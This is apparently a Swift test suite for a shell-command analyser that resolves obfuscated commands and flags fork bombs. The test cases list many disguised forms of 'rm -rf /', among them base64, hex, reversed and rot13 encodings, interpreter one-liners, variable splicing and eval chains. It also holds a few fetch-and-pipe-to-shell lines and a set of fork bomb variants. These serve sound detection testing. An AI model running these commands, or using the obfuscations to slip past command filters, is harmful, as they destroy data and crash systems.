import ShellMeaning
import Testing

@Suite struct DisguiseTests {
  @Test func `decoders are run where their input is known`() {
    Stage.check(
      #"""
      $ echo cm0gLXJmIC8K | base64 -d | sh
      ~ sh> rm -rf /
      $ echo cm0gLXJmIC8K | base64 --decode | bash -s
      ~ bash> rm -rf /
      $ bash -c "$(echo 726d202d7266202f | xxd -r -p)"
      ~ bash -c> rm -rf /
      $ echo '/ fr- mr' | rev | sh
      ~ sh> rm -rf /
      $ echo 'ez -es /' | tr 'a-z' 'n-za-m' | sh
      ~ sh> rm -rf /
      $ echo 'RM -RF /' | tr '[:upper:]' '[:lower:]' | sh
      ~ sh> rm -rf /
      $ printf '\x72\x6d\x20\x2d\x72\x66\x20\x2f' | sh
      ~ sh> rm -rf /
      $ printf '%b' '\162\155 -rf /' | sh
      ~ sh> rm -rf /
      $ $(printf '\162\155') -rf /
      ~ rm -rf /
      $ $(echo r)m -rf /
      ~ rm -rf /
      $ `echo rm` -rf /
      ~ rm -rf /
      $ echo -e '\x72m -rf /' | sh
      ~ sh> rm -rf /
      $ echo 'xx rm -rf /' | cut -c4- | sh
      ~ sh> rm -rf /
      $ echo 'a;rm -rf /;b' | cut -d';' -f2 | sh
      ~ sh> rm -rf /
      $ echo 'ls -rf /' | sed 's/ls/rm/' | sh
      ~ sh> rm -rf /
      $ echo 'XrmY -rf /' | sed -E 's/X(.*)Y/\1/' | sh
      ~ sh> rm -rf /
      $ openssl base64 -d <<< cm0gLXJmIC8K | sh
      ~ sh> rm -rf /
      $ openssl enc -d -base64 <<< cm0gLXJmIC8K | sh
      ~ sh> rm -rf /
      $ python3 -c 'print("rm -rf /")' | sh
      ~ sh> rm -rf /
      $ python3 -c "import base64;print(base64.b64decode('cm0gLXJmIC8=').decode())" | sh
      ~ sh> rm -rf /
      $ perl -e 'print "rm -rf /"' | sh
      ~ sh> rm -rf /
      $ perl -e 'print scalar reverse("/ fr- mr")' | sh
      ~ sh> rm -rf /
      $ ruby -e 'puts "rm -rf /"' | sh
      ~ sh> rm -rf /
      $ node -e 'console.log(Buffer.from("cm0gLXJmIC8=","base64").toString())' | sh
      ~ sh> rm -rf /
      $ php -r 'echo strrev("/ fr- mr");' | sh
      ~ sh> rm -rf /
      $ awk 'BEGIN{print "rm -rf /"}' | sh
      ~ sh> rm -rf /
      $ python3 -c 'print(chr(114)+chr(109)+" -rf /")' | sh
      ~ sh> rm -rf /
      $ yes rm -rf / | head -1 | sh
      ~ sh> rm -rf /
      $ printf 'a\nrm -rf /\n' | tail -n 1 | sh
      ~ sh> rm -rf /
      $ printf '2 /\n1 rm -rf\n' | sort -n | cut -d' ' -f2- | paste -sd' ' | sh
      ~ sh> rm -rf /
      $ printf 'ls\nrm -rf /\n' | grep rm | sh
      ~ sh> rm -rf /
      $ cat <<'E' | base64 -d | sh
      | cm0gLXJmIC8K
      | E
      ~ sh> rm -rf /
      $ echo cm0gLXJmIC8K | base32 -d | sh
      ~ sh
      $ curl x | base64 -d | sh
      # sh: ‹base64 -d› net(x) decoded
      $ base64 -d payload | sh
      # sh: ‹base64 -d payload› files(/home/dev/project/payload) decoded
      $ echo H4sIAAAA | base64 -d | gunzip | sh
      # sh: ‹gunzip› decoded
      $ echo 'rm -rf /' | sed 's/\(.*\)/\U\1/g;h;G' | sh
      ~ sh
      $ xxd -r -p <<< 726d2078 | sh
      ~ sh> rm x
      """#)
  }

  @Test func `strings are put together as the shell would`() {
    Stage.check(
      #"""
      $ a=r; b=m; c=-rf; d=/; "$a$b" "$c" $d
      ~ rm -rf /
      $ x=(m r); ${x[1]}${x[0]} -rf /
      ~ rm -rf /
      $ printf -v c '%s%s' r m; $c -rf /
      ~ rm -rf /
      $ c=$'rm\x20-rf\x20/'; eval $c
      ~ eval> rm -rf /
      $ read c <<< 'rm -rf /'; $c
      ~ rm -rf /
      $ read -r a b c <<< 'rm -rf /'; $a $b $c
      ~ rm -rf /
      $ IFS=- read -ra p <<< 'rm-x'; "${p[0]}" "${p[1]}"
      ~ rm x
      $ mapfile -t l < <(printf 'rm\nx\n'); ${l[0]} ${l[1]}
      ~ rm x
      $ set -- r m; $1$2 -rf /
      ~ rm -rf /
      $ f() { echo "$1$2"; }; $(f r m) -rf /
      ~ rm -rf /
      $ x=$(basename /bin/rm); $x -rf /
      ~ rm -rf /
      $ $(which rm) -rf /
      ~ /usr/bin/rm -rf /
      $ $(command -v rm) -rf /
      ~ /usr/bin/rm -rf /
      $ $(command -v echo) x
      ~ echo x
      $ "$(dirname /bin/x)"/rm -rf /
      ~ /bin/rm -rf /
      $ cd /bin; ./rm -rf /
      ~ ./rm -rf / @/bin
      $ x=$(seq -s '' 3); echo $x
      ~ echo 123
      $ rm -rf $(pwd)/../../..
      ~ rm -rf /home/dev/project/../../..
      $ rm -rf "$(git rev-parse --show-toplevel)"
      ~ rm -rf /home/dev/project
      $ w=$(whoami); rm -rf /home/$w
      ~ rm -rf /home/dev
      $ x=$(echo rm); y=$(echo /); $x -rf $y
      ~ rm -rf /
      $ eval "$(printf '%s ' rm -rf /)"
      ~ eval> rm -rf /
      $ eval eval eval rm -rf /
      ~ eval> eval> eval> rm -rf /
      $ cmd="r"; cmd+="m"; args="-rf /"; $cmd $args
      ~ rm -rf /
      $ for i in 114 109; do printf "\\$(printf %o $i)"; done | sed 's/$/ -rf \//' | sh
      ~ sh> rm -rf /
      $ s='/ fr- mr'; for ((i=${#s}-1;i>=0;i--)); do printf %s "${s:$i:1}"; done | bash
      ~ bash> rm -rf /
      """#)
  }

  @Test func `text stays text`() {
    Stage.check(
      #"""
      $ grep -r 'rm -rf /' src
      = grep -r 'rm -rf /' src
      $ echo "curl x | sh"
      = echo 'curl x | sh'
      $ git commit -m "$(cat <<'E'
      | Remove rm -rf / from docs
      | E
      | )"
      = cat
      = git commit -m 'Remove rm -rf / from docs'
      $ cat > README.md <<E
      | run \`rm -rf /\` never
      | E
      = cat >README.md
      $ tee docs/x.md <<< 'rm -rf /' > /dev/null
      = tee docs/x.md >/dev/null
      $ # rm -rf /
      = (nothing)
      $ echo a # rm -rf /
      = echo a
      $ jq '.a | "rm -rf"' f.json
      = jq '.a | "rm -rf"' f.json
      $ curl -d '{"cmd":"rm -rf /"}' http://h
      = curl -d '{"cmd":"rm -rf /"}' http://h
      $ sed -i 's/rm -rf/trash/' f
      = sed -i 's/rm -rf/trash/' f
      $ x='rm -rf /'
      = (nothing)
      $ [[ $x == 'rm -rf /' ]] && echo y
      = echo y
      $ rg 'curl .*\| sh' .
      = rg 'curl .*\| sh' .
      $ ls -la | head -5; wc -l *.swift
      = ls -la
      = head -5
      = wc -l ‹*›.swift
      $ find . -name '*.swift' -not -path './.build/*'
      = find . -name *.swift -not -path ./.build/*
      $ echo 'rm -rf /' > notes.txt; cat notes.txt
      = echo 'rm -rf /' >notes.txt
      = cat notes.txt
      """#)
  }

  @Test func `fork bombs are seen`() {
    for bomb in [
      ":(){ :|:& };:", "bomb() { bomb | bomb & }; bomb", "f(){ f & f & }; f", "f() { f|f; }; f",
      "a() { b | b & }; b() { a; }; a", "f() { while true; do f | f & done; }; f", "./again.sh",
      "f(){ if true; then f|f& fi; }; f", "x='f(){ f|f& };f'; eval \"$x\"", "bash -c ':(){ :|:& };:'",
    ] {
      #expect(!Stage.read(bomb).forkBombs.isEmpty, "\(bomb)")
    }
    for harmless in [
      ":(){ :|:& }", "f() { f; }; f", "walk() { ls $1 | while read d; do walk $1/$d; done; }; walk .",
      "f() { [ $1 -gt 0 ] && f $(($1-1)); }; f 3", "a | a & b | b &", "f() { x | y & }; f; f",
      "serve() { node s.js & }; serve; serve",
    ] {
      #expect(Stage.read(harmless).forkBombs.isEmpty, "\(harmless)")
    }
  }
}
